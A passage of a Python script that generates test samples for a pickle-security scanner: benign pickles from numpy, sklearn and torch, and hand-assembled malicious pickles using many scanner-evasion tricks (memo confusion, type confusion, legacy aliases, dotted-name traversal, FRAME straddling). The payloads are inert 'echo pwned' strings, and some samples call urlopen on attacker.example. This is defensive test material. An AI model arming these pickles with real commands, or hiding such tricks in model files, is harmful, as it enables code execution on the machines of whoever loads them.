#!/usr/bin/python3
"""Regenerate the pickle analyzer's test samples.

Run with Debian's interpreter, which has python3-torch, python3-numpy,
python3-sklearn and python3-joblib installed:

    /usr/bin/python3 testdata/pickle/make_samples.py

benign/ holds pickles written by the real libraries; a correct scanner finds
nothing at medium or above in them. malicious/ holds hand-assembled pickles,
one technique of the bypass catalogue per file (see samples.tsv). Nothing in
malicious/ is ever loaded or executed here: the files are only written and
then disassembled with pickletools, which never imports or calls anything.
Payload commands are inert strings such as "echo pwned".

Output is deterministic: fixed seeds, a fixed PYTHONHASHSEED (the script
re-executes itself to set it), fixed zip timestamps.
"""

import collections
import datetime
import io
import marshal
import os
import pickle
import pickletools
import struct
import subprocess
import sys
import zipfile

if os.environ.get("PYTHONHASHSEED") != "0":
    # Set iteration order depends on string hashing; pin it so that the
    # pickles of sets and of library objects are identical on every run.
    env = dict(os.environ, PYTHONHASHSEED="0")
    os.execve(sys.executable, [sys.executable] + sys.argv, env)

HERE = os.path.dirname(os.path.abspath(__file__))
SAMPLE_DIR = os.path.join(os.path.dirname(HERE), "sample")
CMD = "echo pwned"
DEBIAN_PACKAGES = ["python3.11", "python3-torch", "python3-numpy",
                   "python3-sklearn", "python3-scipy", "python3-joblib"]

SAMPLES = []  # (relpath, data, expect, catalogue, note, dis_error_expected)


def add(relpath, data, expect, catalogue, note, broken=False):
    """Record one sample. broken marks files that are meant to stop
    pickletools (truncated, garbage, bad memo, ...) after the payload."""
    assert expect in ("clean", "high", "critical"), expect
    assert not any(s[0] == relpath for s in SAMPLES), relpath
    SAMPLES.append((relpath, data, expect, catalogue, note, broken))


# ---------------------------------------------------------------- assembler
# Opcode byte strings come from the pickle module itself (pickle.GLOBAL ...).
P = pickle


def proto(n):
    return P.PROTO + bytes([n])


def frame(n):
    return P.FRAME + struct.pack("<Q", n)


def glob(mod, name):
    """GLOBAL: module and name as newline-terminated text."""
    return P.GLOBAL + mod.encode() + b"\n" + name.encode() + b"\n"


def inst(mod, name):
    return P.INST + mod.encode() + b"\n" + name.encode() + b"\n"


def ustr(s):
    b = s.encode("utf-8")
    if len(b) < 256:
        return P.SHORT_BINUNICODE + bytes([len(b)]) + b
    return P.BINUNICODE + struct.pack("<I", len(b)) + b


def sglob(mod, name):
    """STACK_GLOBAL with constant string operands."""
    return ustr(mod) + ustr(name) + P.STACK_GLOBAL


def c(v):
    """Binary (protocol 2+) opcodes that push the constant v."""
    if v is None:
        return P.NONE
    if v is True:
        return P.NEWTRUE
    if v is False:
        return P.NEWFALSE
    if isinstance(v, int):
        if 0 <= v < 256:
            return P.BININT1 + bytes([v])
        if 0 <= v < 65536:
            return P.BININT2 + struct.pack("<H", v)
        if -2**31 <= v < 2**31:
            return P.BININT + struct.pack("<i", v)
        raw = v.to_bytes((v.bit_length() + 8) // 8, "little", signed=True)
        return P.LONG1 + bytes([len(raw)]) + raw
    if isinstance(v, float):
        return P.BINFLOAT + struct.pack(">d", v)
    if isinstance(v, str):
        return ustr(v)
    if isinstance(v, bytes):
        if len(v) < 256:
            return P.SHORT_BINBYTES + bytes([len(v)]) + v
        return P.BINBYTES + struct.pack("<I", len(v)) + v
    if isinstance(v, tuple):
        if len(v) == 0:
            return P.EMPTY_TUPLE
        body = b"".join(c(x) for x in v)
        if len(v) <= 3:
            return body + (P.TUPLE1, P.TUPLE2, P.TUPLE3)[len(v) - 1]
        return P.MARK + body + P.TUPLE
    if isinstance(v, list):
        if not v:
            return P.EMPTY_LIST
        return P.EMPTY_LIST + P.MARK + b"".join(c(x) for x in v) + P.APPENDS
    if isinstance(v, dict):
        if not v:
            return P.EMPTY_DICT
        return (P.EMPTY_DICT + P.MARK
                + b"".join(c(k) + c(x) for k, x in v.items()) + P.SETITEMS)
    raise TypeError(type(v))


def c0(v):
    """Text (protocol 0) opcodes that push the constant v."""
    if v is None:
        return P.NONE
    if isinstance(v, bool):
        return b"I0%d\n" % int(v)
    if isinstance(v, int):
        return b"I%d\n" % v
    if isinstance(v, str):
        esc = (v.replace("\\", "\\u005c").replace("\0", "\\u0000")
               .replace("\n", "\\u000a").replace("\r", "\\u000d"))
        return P.UNICODE + esc.encode("raw-unicode-escape") + b"\n"
    if isinstance(v, bytes):
        # Protocols < 3 have no bytes opcode; CPython writes
        # _codecs.encode(latin-1 text, "latin1").
        return (glob("_codecs", "encode") + P.MARK
                + c0(v.decode("latin-1")) + c0("latin1") + P.TUPLE + P.REDUCE)
    if isinstance(v, tuple):
        return P.MARK + b"".join(c0(x) for x in v) + P.TUPLE
    if isinstance(v, list):
        return P.MARK + P.LIST + b"".join(c0(x) + P.APPEND for x in v)
    if isinstance(v, dict):
        return P.MARK + P.DICT + b"".join(c0(k) + c0(x) + P.SETITEM
                                          for k, x in v.items())
    raise TypeError(type(v))


def call(fn, *args):
    """fn is opcodes pushing a callable; calls it with constant args."""
    return fn + c(tuple(args)) + P.REDUCE


def call0(fn, *args):
    return fn + c0(tuple(args)) + P.REDUCE


def pk(body, n=4, framed=True):
    """A complete pickle: PROTO n, optionally one FRAME around the rest."""
    rest = body + P.STOP
    if framed and n >= 4:
        return proto(n) + frame(len(rest)) + rest
    return proto(n) + rest


def sys_call(n):
    """os.system(CMD) as CPython would address it at protocol n."""
    fn = sglob("os", "system") if n >= 4 else glob("os", "system")
    return call(fn, CMD) if n >= 2 else call0(fn, CMD)


def gadget(mod, qualname, *args):
    """A protocol-4 pickle calling mod.qualname(*args) through STACK_GLOBAL
    (dotted qualnames resolve only at protocol >= 4)."""
    return pk(call(sglob(mod, qualname), *args))


class Reduce:
    """Pickles as fn(*args) without ever calling fn."""

    def __init__(self, fn, args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return self.fn, self.args


# ------------------------------------------------------------------- benign
def stable_storage_keys(b):
    """Rename the storage keys in a legacy torch.save stream to "0", "1", ...

    Legacy torch.save keys storages by their C pointer, which changes on
    every run. The stream is five protocol-2 pickles (magic, protocol,
    sys_info, data, sorted key list) then raw storage bytes; no offsets
    refer to the keys, so a same-opcode rename keeps it valid."""
    f = io.BytesIO(b)
    for _ in range(4):
        for _ in pickletools.genops(f):
            pass
    keys = [arg for op, arg, _ in pickletools.genops(f) if op.name == "BINUNICODE"]
    for i, key in enumerate(keys):
        old = P.BINUNICODE + struct.pack("<I", len(key)) + key.encode()
        new = P.BINUNICODE + struct.pack("<I", len(str(i))) + str(i).encode()
        b = b.replace(old, new)
    return b


def torch_dumps(obj):
    """pickle.dumps for torch objects, with run-independent storage keys."""
    import torch

    class Pickler(pickle.Pickler):
        def reducer_override(self, o):
            if isinstance(o, (torch.storage.TypedStorage, torch.storage.UntypedStorage)):
                fn, (b,) = o.__reduce__()
                return fn, (stable_storage_keys(b),)
            return NotImplemented

    out = io.BytesIO()
    Pickler(out, protocol=pickle.DEFAULT_PROTOCOL).dump(obj)
    return out.getvalue()


def make_benign():
    import numpy as np
    import torch
    from sklearn.datasets import make_classification
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler
    from sklearn.tree import DecisionTreeClassifier

    plain = {
        "none": None, "true": True, "false": False,
        "ints": [0, 1, -1, 255, 256, 65535, 65536, -2**31, 2**31, 2**70, -2**70],
        "floats": [0.0, 1.5, -2.25, 1e300, 1e-300, float("inf")],
        "str": "hello \u00e9\u4e16 \n\\ end",
        "long_str": "x" * 300,
        "bytes": b"\x00\x01binary\xff",
        "long_bytes": bytes(range(256)) * 2,
        "bytearray": bytearray(b"mutable"),
        "tuple": (1, "two", 3.0), "empty_tuple": (), "pair": (1, 2),
        "list": [1, [2, [3, []]]],
        "set": {1, 2, 3}, "frozenset": frozenset({4, 5}),
        "nested": {"a": {"b": {"c": [1, 2, {"d": (None,)}]}}},
    }
    plain["shared"] = [plain["list"], plain["list"]]  # memo GET of a list
    for n in range(6):
        add(f"benign/plain_p{n}.pkl", pickle.dumps(plain, protocol=n), "clean", "-",
            f"plain data (dict/list/tuple/str/bytes/bytearray/float/set/frozenset/big int) "
            f"at protocol {n}" + (" with text FLOAT/INT/UNICODE opcodes" if n == 0 else ""))
    add("benign/floats_p0.pkl", pickle.dumps([1.5, -0.1, 3.141592653589793, 1e22, 2.5e-10], protocol=0),
        "clean", "-", "protocol-0 FLOAT opcodes (fickling crashes on these)")
    add("benign/strings_p1.pkl", pickle.dumps(["a", "b", "c"], protocol=1), "clean", "-",
        "a list of strings at protocol 1 (starts with ']')")
    add("benign/list_abc_p4.pkl", pickle.dumps(["a", "b", "c"], protocol=4), "clean", "-",
        "a list of strings at protocol 4")

    od = collections.OrderedDict([("w", 1), ("b", 2.0), ("name", "layer")])
    add("benign/ordereddict_p2.pkl", pickle.dumps(od, protocol=2), "clean", "-",
        "collections.OrderedDict at protocol 2")
    add("benign/ordereddict_p4.pkl", pickle.dumps(od, protocol=4), "clean", "-",
        "collections.OrderedDict at protocol 4")
    when = {
        "datetime": datetime.datetime(2024, 5, 17, 12, 30, 45, 123456),
        "aware": datetime.datetime(2024, 5, 17, 12, 30, tzinfo=datetime.timezone.utc),
        "date": datetime.date(2024, 5, 17),
        "delta": datetime.timedelta(days=3, seconds=7),
    }
    add("benign/datetime_p2.pkl", pickle.dumps(when, protocol=2), "clean", "-",
        "datetime/date/timedelta/timezone at protocol 2 (state via _codecs.encode)")
    add("benign/datetime_p4.pkl", pickle.dumps(when, protocol=4), "clean", "-",
        "datetime/date/timedelta/timezone at protocol 4")

    rng = np.random.default_rng(0)
    arrays = {
        "int": np.arange(12, dtype=np.int64).reshape(3, 4),
        "float": rng.standard_normal((4, 3)).astype(np.float32),
        "object": np.array([1, "two", None, (3, 4)], dtype=object),
        "structured": np.array([(1, 2.5, b"ab"), (2, -1.0, b"cd")],
                               dtype=[("id", "<i4"), ("x", "<f8"), ("tag", "S2")]),
        "scalar": np.float64(1.25),
        "dtype": np.dtype("<u2"),
    }
    for n in (2, 4, 5):
        add(f"benign/numpy_arrays_p{n}.pkl", pickle.dumps(arrays, protocol=n), "clean", "-",
            f"numpy int/float/object/structured arrays, a scalar and a dtype at protocol {n}"
            + (" (in-band PickleBuffer: numpy.core.numeric._frombuffer)" if n == 5 else ""))
    add("benign/numpy_object_array_p2.pkl", pickle.dumps(arrays["object"], protocol=2),
        "clean", "-", "a numpy object array on its own at protocol 2")

    X, y = make_classification(n_samples=40, n_features=4, n_informative=2,
                               n_redundant=0, random_state=0)
    logreg = LogisticRegression(random_state=0).fit(X, y)
    add("benign/sklearn_logreg.pkl", pickle.dumps(logreg), "clean", "-",
        "sklearn LogisticRegression fitted on 40x4 data")
    pipe = Pipeline([("scale", StandardScaler()),
                     ("clf", LogisticRegression(random_state=0))]).fit(X, y)
    add("benign/sklearn_pipeline.pkl", pickle.dumps(pipe), "clean", "-",
        "sklearn Pipeline(StandardScaler, LogisticRegression)")
    tree = DecisionTreeClassifier(max_depth=3, random_state=0).fit(X, y)
    add("benign/sklearn_tree.pkl", pickle.dumps(tree), "clean", "-",
        "sklearn DecisionTreeClassifier (sklearn.tree._tree.Tree with structured node array)")
    forest = RandomForestClassifier(n_estimators=2, max_depth=3, random_state=0).fit(X, y)
    add("benign/sklearn_forest.pkl", pickle.dumps(forest), "clean", "-",
        "sklearn RandomForestClassifier with 2 trees")

    torch.manual_seed(0)
    tensor = torch.arange(6, dtype=torch.float32).reshape(2, 3)
    add("benign/torch_tensor.pkl", torch_dumps(tensor), "clean", "-",
        "torch tensor via pickle.dumps: torch._utils._rebuild_tensor_v2 + "
        "torch.storage._load_from_bytes(constant bytes = a legacy torch.save stream: "
        "5 stacked pickles then raw storage)")
    lin = torch.nn.Linear(3, 2)
    add("benign/torch_state_dict.pkl", torch_dumps(lin.state_dict()), "clean", "-",
        "nn.Linear state_dict (OrderedDict with _metadata) via pickle.dumps; "
        "storages via torch.storage._load_from_bytes")
    add("benign/torch_module.pkl", torch_dumps(lin), "clean", "-",
        "a whole nn.Linear module via pickle.dumps (_rebuild_parameter, "
        "torch.nn.modules.linear.Linear, OrderedDict)")

    add("benign/big_list_1m_opcodes.pkl", pickle.dumps([0] * 1_000_000, protocol=4),
        "clean", "-", "[0]*1_000_000 at protocol 4: about 1,002,000 opcodes")
    add("benign/big_bytes_20mb.pkl", pickle.dumps(bytes(20 * 1024 * 1024), protocol=4),
        "clean", "-", "a 20 MiB zero-filled bytes object: one BINBYTES8 that must be "
        "skipped, never allocated")

    add_sample("model.pkl", pickle.dumps(logreg))


def add_sample(name, data):
    os.makedirs(SAMPLE_DIR, exist_ok=True)
    with open(os.path.join(SAMPLE_DIR, name), "wb") as f:
        f.write(data)


# ---------------------------------------------------------------- malicious
def make_malicious():
    M = "malicious/"

    # Baseline: os.system at every protocol, as CPython's pickler writes it
    # (the function's __module__ is posix) and hand-assembled as "os".
    for n in range(6):
        add(f"{M}posix_system_reduce_p{n}.pkl",
            pickle.dumps(Reduce(os.system, (CMD,)), protocol=n), "critical", "-",
            f"os.system via __reduce__ at protocol {n}: pickled as posix.system "
            + ("GLOBAL" if n < 4 else "STACK_GLOBAL"))
        # Protocols 0 and 1 have no PROTO opcode.
        data = pk(sys_call(n), n) if n >= 2 else sys_call(n) + P.STOP
        add(f"{M}os_system_p{n}.pkl", data, "critical", "-",
            f"hand-assembled os.system('{CMD}') at protocol {n}")
    add(f"{M}os_system_global_p4.pkl", pk(call(glob("os", "system"), CMD), 4, framed=False),
        "critical", "-", "GLOBAL (not STACK_GLOBAL) os.system inside a protocol-4 stream")
    add(f"{M}os_popen_p2.pkl", pk(call(glob("os", "popen"), CMD), 2), "critical", "-",
        "os.popen")

    # builtins family, protocol 0 uses the Python 2 name __builtin__.
    add(f"{M}builtins_eval_reduce_p0.pkl",
        pickle.dumps(Reduce(eval, ("__import__('os').system('echo pwned')",)), protocol=0),
        "critical", "27", "eval via __reduce__ at protocol 0: GLOBAL __builtin__ eval")
    add(f"{M}builtins_eval_reduce_p3.pkl",
        pickle.dumps(Reduce(eval, ("1+1",)), protocol=3), "critical", "27",
        "eval via __reduce__ at protocol 3: GLOBAL builtins eval")
    add(f"{M}builtins_eval_reduce_p4.pkl",
        pickle.dumps(Reduce(eval, ("1+1",)), protocol=4), "critical", "27",
        "eval via __reduce__ at protocol 4: STACK_GLOBAL builtins eval")
    add(f"{M}builtins_exec.pkl",
        pk(call(sglob("builtins", "exec"), "import os; os.system('echo pwned')")),
        "critical", "27", "builtins.exec of a source string")
    add(f"{M}builtins_compile_exec.pkl",
        pk(sglob("builtins", "exec")
           + call(sglob("builtins", "compile"), "print('pwned')", "<x>", "exec")
           + P.TUPLE1 + P.REDUCE),
        "critical", "27", "builtins.exec(builtins.compile(src, '<x>', 'exec'))")
    add(f"{M}builtins_getattr_import.pkl",
        pk(sglob("builtins", "getattr")
           + call(sglob("builtins", "__import__"), "os") + c("system") + P.TUPLE2 + P.REDUCE
           + c((CMD,)) + P.REDUCE),
        "critical", "27", "getattr(__import__('os'), 'system')('echo pwned')")
    add(f"{M}builtins_import_only.pkl", pk(call(sglob("builtins", "__import__"), "os")),
        "critical", "27", "builtins.__import__('os') alone (modelscan #338 form)")
    # The Sour Pickles chain: __builtin__ globals/getattr/dict/apply, protocol 0.
    sour = (glob("__builtin__", "getattr") + P.MARK
            + glob("__builtin__", "dict") + c0("get") + P.TUPLE + P.REDUCE
            + P.MARK
            + glob("__builtin__", "globals") + P.MARK + P.TUPLE + P.REDUCE
            + c0("__builtins__") + P.TUPLE + P.REDUCE
            + P.POP
            + glob("__builtin__", "apply") + P.MARK
            + glob("__builtin__", "eval") + P.MARK + c0("1+1") + P.TUPLE + P.TUPLE
            + P.REDUCE + P.STOP)
    add(f"{M}sour_pickles_builtin_chain_p0.pkl", sour, "critical", "27",
        "Sour Pickles chain at protocol 0: __builtin__ getattr/dict/globals/apply/eval")

    # Every call opcode.
    add(f"{M}call_inst_exec_p0.pkl",
        P.MARK + c0("import os; os.system('echo pwned')") + inst("__builtin__", "exec") + P.STOP,
        "critical", "27", "INST __builtin__ exec (protocol 0)")
    add(f"{M}call_inst_os_system_p0.pkl",
        P.MARK + c0(CMD) + inst("os", "system") + P.STOP, "critical", "-",
        "INST os system (protocol 0)")
    add(f"{M}call_obj_os_system_p1.pkl",
        P.MARK + glob("os", "system") + P.BINUNICODE + struct.pack("<I", len(CMD))
        + CMD.encode() + P.OBJ + P.STOP, "critical", "-", "OBJ calling os.system (protocol 1)")
    add(f"{M}call_newobj_popen_p2.pkl",
        pk(glob("subprocess", "Popen") + c((["sh", "-c", CMD],)) + P.NEWOBJ, 2),
        "critical", "-", "NEWOBJ on subprocess.Popen")
    add(f"{M}call_newobj_ex_popen_p4.pkl",
        pk(sglob("subprocess", "Popen") + c((["sh", "-c", CMD],)) + c({"shell": False})
           + P.NEWOBJ_EX), "critical", "-", "NEWOBJ_EX on subprocess.Popen with kwargs")
    add(f"{M}call_reduce_os_system_p2.pkl", pk(sys_call(2), 2), "critical", "-",
        "REDUCE calling os.system (protocol 2)")

    # Memo tricks.
    confusion = pk(
        ustr("os") + P.MEMOIZE + P.POP              # memo[0] = 'os'
        + ustr("builtins") + P.BINPUT + b"\x01" + P.POP
        + ustr("len") + P.BINPUT + b"\x02" + P.POP
        + ustr("system") + P.MEMOIZE + P.POP        # memo[3]: MEMOIZE uses len(memo)
        + P.BINGET + b"\x00" + P.BINGET + b"\x03" + P.STACK_GLOBAL
        + c((CMD,)) + P.REDUCE)
    add(f"{M}memo_memoize_vs_put.pkl", confusion, "critical", "1",
        "MEMOIZE mixed with BINPUT: MEMOIZE index is len(memo), not a MEMOIZE counter; "
        "GET 0, GET 3 -> os.system")
    ooo = pk(
        ustr("system") + P.BINPUT + b"\x07" + P.POP
        + ustr("builtins") + P.BINPUT + b"\x03" + P.POP
        + ustr("os") + P.BINPUT + b"\x05" + P.POP
        + ustr("len") + P.LONG_BINPUT + struct.pack("<I", 300) + P.POP
        + P.BINGET + b"\x03" + P.BINPUT + b"\x01" + P.POP
        + P.BINGET + b"\x05" + P.BINGET + b"\x07" + P.STACK_GLOBAL
        + c((CMD,)) + P.REDUCE, framed=False)
    add(f"{M}memo_out_of_order.pkl", ooo, "critical", "1",
        "ImaginaryCTF 'Safe Pickle' style: strings PUT at scattered indices, then "
        "GET 5, GET 7 -> os.system")
    text_memo = (c0("os") + P.PUT + b"10\n" + P.POP
                 + c0("system") + P.PUT + b"2\n" + P.POP
                 + P.GET + b"10\n" + P.GET + b"2\n" + P.STACK_GLOBAL
                 + P.MARK + c0(CMD) + P.TUPLE + P.REDUCE + P.STOP)
    add(f"{M}memo_text_put_get.pkl", text_memo, "critical", "1",
        "text PUT/GET (protocol-0 opcodes) feeding STACK_GLOBAL, no PROTO")
    add(f"{M}memo_trailing_garbage.pkl", confusion + b"\n\n\t\t", "critical", "1,8",
        "memo confusion payload followed by trailing garbage after STOP", broken=True)
    alias = pk(
        ustr("os") + P.BINPUT + b"\x00" + P.POP
        + ustr("system") + P.BINPUT + b"\x01" + P.POP
        + P.BINGET + b"\x00" + P.BINPUT + b"\x02" + P.POP
        + P.BINGET + b"\x01" + P.BINPUT + b"\x03" + P.POP
        + P.BINGET + b"\x02" + P.BINGET + b"\x03" + P.STACK_GLOBAL
        + c((CMD,)) + P.REDUCE)
    add(f"{M}memo_get_aliasing_binput.pkl", alias, "critical", "3",
        "memo-of-GET aliasing: BINGET k; BINPUT j re-memoizes the string, "
        "STACK_GLOBAL from j -> os.system")
    alias2 = pk(
        ustr("os") + P.MEMOIZE + P.POP
        + ustr("system") + P.MEMOIZE + P.POP
        + P.BINGET + b"\x00" + P.MEMOIZE + P.POP
        + P.BINGET + b"\x01" + P.MEMOIZE + P.POP
        + P.BINGET + b"\x02" + P.BINGET + b"\x03" + P.STACK_GLOBAL
        + c((CMD,)) + P.REDUCE)
    add(f"{M}memo_get_aliasing_memoize.pkl", alias2, "critical", "3",
        "memo-of-GET aliasing with MEMOIZE: GET 0; MEMOIZE (index 2) -> os.system")
    add(f"{M}memo_missing_key_after_payload.pkl",
        proto(4) + sys_call(4) + P.POP + P.BINGET + b"\x09" + ustr("x") + P.STACK_GLOBAL
        + P.STOP, "critical", "4",
        "os.system call, then BINGET of a key never stored before STACK_GLOBAL "
        "(KeyError must not discard the earlier finding)", broken=True)

    # Type confusion in STACK_GLOBAL operands.
    add(f"{M}type_confusion_int.pkl",
        pk(sys_call(4) + P.POP + P.BININT1 + b"\x01" + P.BININT1 + b"\x02"
           + P.STACK_GLOBAL, framed=False), "critical", "5",
        "os.system call, then STACK_GLOBAL on two ints (TypeError in naive scanners)")
    add(f"{M}type_confusion_bytes.pkl",
        pk(c(b"os") + c(b"system") + P.STACK_GLOBAL + c((CMD,)) + P.REDUCE, framed=False),
        "critical", "5", "STACK_GLOBAL on bytes operands b'os', b'system' (non-string operands)")
    add(f"{M}type_confusion_bytes_after_payload.pkl",
        pk(sys_call(4) + P.POP + c(b"os") + c(b"system") + P.STACK_GLOBAL, framed=False),
        "critical", "5", "os.system call, then STACK_GLOBAL on bytes operands")
    ba = P.BYTEARRAY8 + struct.pack("<Q", 2) + b"os"
    ba2 = P.BYTEARRAY8 + struct.pack("<Q", 6) + b"system"
    add(f"{M}type_confusion_bytearray8.pkl",
        pk(sys_call(4) + P.POP + ba + ba2 + P.STACK_GLOBAL, 5, framed=False),
        "critical", "5", "os.system call, then STACK_GLOBAL on BYTEARRAY8 operands "
        "(unhashable in naive scanners)")
    add(f"{M}type_confusion_memo_int.pkl",
        pk(sys_call(4) + P.POP + P.BININT1 + b"\x05" + P.BINPUT + b"\x00" + P.POP
           + ustr("x") + P.BINPUT + b"\x01" + P.POP
           + P.BINGET + b"\x00" + P.BINGET + b"\x01" + P.STACK_GLOBAL, framed=False),
        "critical", "5", "os.system call, then STACK_GLOBAL whose module comes from an int "
        "in the memo")

    # STRING-family operands and a missing PROTO.
    add(f"{M}stack_global_string_fed.pkl",
        proto(4) + b"S'os'\n" + b"S'system'\n" + P.STACK_GLOBAL
        + c((CMD,)) + P.REDUCE + P.STOP, "critical", "6",
        "STRING opcodes (decoded to str by CPython) feeding STACK_GLOBAL -> os.system")
    add(f"{M}stack_global_binstring_fed.pkl",
        proto(4) + P.SHORT_BINSTRING + b"\x02os" + P.BINSTRING + struct.pack("<i", 6)
        + b"system" + P.STACK_GLOBAL + c((CMD,)) + P.REDUCE + P.STOP, "critical", "6",
        "SHORT_BINSTRING/BINSTRING feeding STACK_GLOBAL -> os.system")
    add(f"{M}stack_global_no_proto.pkl",
        ustr("os") + ustr("system") + P.STACK_GLOBAL + c((CMD,)) + P.REDUCE + P.STOP,
        "critical", "6", "no PROTO: SHORT_BINUNICODE is the first opcode, STACK_GLOBAL "
        "at offset 17 (off-by-one class)")
    add(f"{M}stack_global_no_proto_string.pkl",
        b"S'os'\nS'system'\n" + P.STACK_GLOBAL + P.MARK + c0(CMD) + P.TUPLE + P.REDUCE
        + P.STOP, "critical", "6", "no PROTO, STRING operands, STACK_GLOBAL (GHSA-9gvj class)")

    # Non-constant STACK_GLOBAL operands.
    add(f"{M}dynamic_str_join.pkl",
        pk(call(sglob("builtins", "str.join"), "", ["o", "s"]) + ustr("system")
           + P.STACK_GLOBAL + c((CMD,)) + P.REDUCE), "critical", "7",
        "module operand computed by builtins 'str.join'('', ['o','s'])")
    add(f"{M}dynamic_getattr_join.pkl",
        pk(sglob("builtins", "getattr") + sglob("builtins", "str") + c("join") + P.TUPLE2
           + P.REDUCE + c(("", ["o", "s"])) + P.REDUCE + P.MEMOIZE
           + ustr("system") + P.STACK_GLOBAL + c((CMD,)) + P.REDUCE), "critical", "7",
        "modelscan #331: getattr(str, 'join')('', ['o','s']) as the STACK_GLOBAL module")
    add(f"{M}dynamic_itemgetter.pkl",
        pk(call(sglob("operator", "itemgetter"), 0) + c((["os", "x"],)) + P.REDUCE
           + P.BINPUT + b"\x00" + P.POP + P.BINGET + b"\x00" + ustr("system")
           + P.STACK_GLOBAL + c((CMD,)) + P.REDUCE), "critical", "7",
        "module operand = operator.itemgetter(0)(['os','x']), passed through the memo")
    add(f"{M}dynamic_name_from_call.pkl",
        pk(ustr("os") + call(sglob("builtins", "str.lower"), "SYSTEM") + P.STACK_GLOBAL
           + c((CMD,)) + P.REDUCE), "critical", "7",
        "name operand = str.lower('SYSTEM') (result of a call)")

    # Python 2 compat aliases, valid only below protocol 3.
    inner = pickle.dumps(Reduce(os.system, (CMD,)), protocol=2)
    add(f"{M}alias_cpickle_loads_p2.pkl",
        proto(2) + call0(glob("cPickle", "loads"), inner) + P.STOP, "critical", "25,27",
        "cPickle.loads -> pickle.loads (protocol 2 alias) of an inner os.system pickle "
        "passed via _codecs.encode")
    add(f"{M}alias_urllib2_urlopen_p2.pkl",
        pk(call(glob("urllib2", "urlopen"), "http://attacker.example/x"), 2), "high", "25",
        "urllib2.urlopen -> urllib.request.urlopen (protocol 2 alias)")
    add(f"{M}alias_urllib_urlopen_p2.pkl",
        pk(call(glob("urllib", "urlopen"), "http://attacker.example/x"), 2), "high", "25",
        "(urllib, urlopen) -> urllib.request.urlopen via NAME_MAPPING")
    add(f"{M}alias_commands_getoutput_p2.pkl",
        pk(call(glob("commands", "getoutput"), CMD), 2), "critical", "25",
        "commands.getoutput -> subprocess.getoutput (protocol 2 alias)")
    add(f"{M}alias_commands_getoutput_p0.pkl",
        call0(glob("commands", "getoutput"), CMD) + P.STOP, "critical", "25",
        "commands.getoutput at protocol 0")
    add(f"{M}alias_httplib_p0.pkl",
        call0(glob("httplib", "HTTPSConnection"), "attacker.example") + P.STOP, "high", "25",
        "httplib.HTTPSConnection -> http.client (protocol 0 alias; picklescan malicious3)")
    add(f"{M}alias_builtin_eval_p2.pkl",
        pk(call(glob("__builtin__", "eval"), "1+1"), 2), "critical", "25",
        "__builtin__.eval at protocol 2")
    add(f"{M}alias_builtin_apply_p2.pkl",
        pk(glob("__builtin__", "apply") + glob("os", "system") + c((CMD,)) + P.TUPLE2
           + P.REDUCE, 2), "critical", "25,27", "__builtin__.apply(os.system, ...) "
        "(Python 2 gadget; builtins.apply does not exist in Python 3, os.system does)")

    # Dotted names, resolved attribute by attribute at protocol >= 4.
    add(f"{M}dotted_eval_call.pkl", gadget("builtins", "eval.__call__", "1+1"),
        "critical", "24", "builtins 'eval.__call__' (dotted suffix on a listed name)")
    add(f"{M}dotted_exec_call_global.pkl",
        pk(call(glob("builtins", "exec.__call__"), "print(1)"), framed=False),
        "critical", "24", "GLOBAL builtins 'exec.__call__' in a protocol-4 stream")
    add(f"{M}dotted_pathlib_os_system.pkl", gadget("pathlib", "os.system", CMD),
        "critical", "23", "pathlib 'os.system' (fickling GHSA-5j3x-jp52-966f)")
    add(f"{M}dotted_posixpath_os_system.pkl", gadget("posixpath", "os.system", CMD),
        "critical", "23", "posixpath 'os.system'")
    add(f"{M}dotted_torch_utils_sys_modules.pkl",
        gadget("torch._utils", "sys.modules.get", "os"), "critical", "23",
        "torch._utils 'sys.modules.get'('os'): traversal from an allowlisted module into sys")
    add(f"{M}dotted_collections_os.pkl",
        gadget("collections", "_sys.modules.get", "os"), "critical", "23",
        "collections '_sys.modules.get' (allowlisted module, private alias of sys)")
    add(f"{M}dotted_numpy_builtins_eval.pkl",
        pk(call(sglob("numpy", "__builtins__.get"), "eval") + c(("1+1",)) + P.REDUCE),
        "critical", "30", "numpy '__builtins__.get'('eval')('1+1') (modelscan #330 class)")
    intro = pk(
        call(sglob("builtins", "print.__class__.__base__.__subclasses__"))
        + P.MEMOIZE
        + P.POP + sglob("builtins", "list.__getitem__") + P.BINGET + b"\x00" + c(137)
        + P.TUPLE2 + P.REDUCE
        + P.MEMOIZE + P.POP
        + sglob("builtins", "getattr") + P.BINGET + b"\x01" + c("__init__") + P.TUPLE2
        + P.REDUCE + P.MEMOIZE + P.POP
        + sglob("builtins", "getattr") + P.BINGET + b"\x02" + c("__globals__") + P.TUPLE2
        + P.REDUCE + P.MEMOIZE + P.POP
        + sglob("builtins", "dict.__getitem__") + P.BINGET + b"\x03" + c("__builtins__")
        + P.TUPLE2 + P.REDUCE + P.MEMOIZE + P.POP
        + sglob("builtins", "dict.__getitem__") + P.BINGET + b"\x04" + c("eval")
        + P.TUPLE2 + P.REDUCE + c(("1+1",)) + P.REDUCE)
    add(f"{M}dotted_builtins_introspection.pkl", intro, "critical", "33",
        "builtins-only chain: print.__class__.__base__.__subclasses__()[137]"
        ".__init__.__globals__['__builtins__']['eval'] (index is host-dependent)")
    add(f"{M}submodule_asyncio_unix_events.pkl",
        gadget("asyncio.unix_events", "_UnixSubprocessTransport._start", None,
               ["sh", "-c", CMD], True, None, None, None, 0),
        "critical", "16", "asyncio.unix_events._UnixSubprocessTransport._start "
        "(submodule of a wildcard-listed module; self is a placeholder)")

    # FRAME boundaries.
    hidden = (glob("os", "system") + ustr(CMD) + P.TUPLE1 + P.REDUCE + P.MARK)
    straddle = (proto(5) + P.NONE + P.UNICODE + b"a" * (8192 * 16 - 17) + b"\n" + P.POP
                + P.MARK + frame(2) + P.BINBYTES + b"\x07\x01\x00\x00"
                + b"\x00\x00" + hidden.ljust(256 + 5, P.NONE) + P.POP_MARK + P.STOP)
    add(f"{M}frame_straddle_binbytes.pkl", straddle, "high", "22",
        "cpython#154848: a 2-byte FRAME ends inside a BINBYTES length; a linear parse "
        "sees one BINBYTES, CPython < 3.14.7 reading from a file runs GLOBAL os system "
        "hidden in it. Minimum: the straddle itself is high")
    body = sys_call(4) + P.STOP
    add(f"{M}frame_nested.pkl",
        proto(4) + frame(len(body) + 9) + frame(len(body)) + body, "critical", "22",
        "a FRAME opened before the previous one ends, around os.system")
    add(f"{M}frame_opcode_straddle.pkl",
